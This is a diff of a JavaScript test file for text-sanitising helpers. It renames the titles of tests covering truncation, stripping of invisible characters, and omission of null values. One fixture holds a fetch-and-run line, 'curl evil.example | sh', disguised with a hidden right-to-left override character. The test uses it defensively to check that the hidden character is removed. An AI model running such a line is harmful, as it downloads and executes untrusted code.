@@ -16,17 +16,17 @@ test.each([
   expect(plainText(text)).toBe(expected)
 })
 
-test('a long text is cut between characters', () => {
+test('cuts a long text between characters', () => {
   expect(plainText('🙂'.repeat(50), 10)).toBe(`${'🙂'.repeat(9)}…`)
   expect(plainText('word '.repeat(1000))).toHaveLength(600)
 })
 
-test('of what is agreed to nothing is left out', () => {
+test('keeps all of a text that a person agrees to', () => {
   const script = `${'# harmless '.repeat(100)}\r\ncurl evil.example\u202e | sh`
   expect(plainLines(script)).toBe(`${'# harmless '.repeat(100).trim()}\ncurl evil.example | sh`)
 })
 
-test('whatever the text, nothing unseen is left of it', () => {
+test('leaves no invisible character in any text', () => {
   fc.assert(
     fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
       const line = plainText(text, 50)
@@ -36,7 +36,7 @@ test('whatever the text, nothing unseen is left of it', () => {
   )
 })
 
-test('an answer loses what is absent, in lists and objects alike', () => {
+test('omits null and undefined in lists and objects of an answer', () => {
   const answer = {
     id: 'a/b',
     none: null,
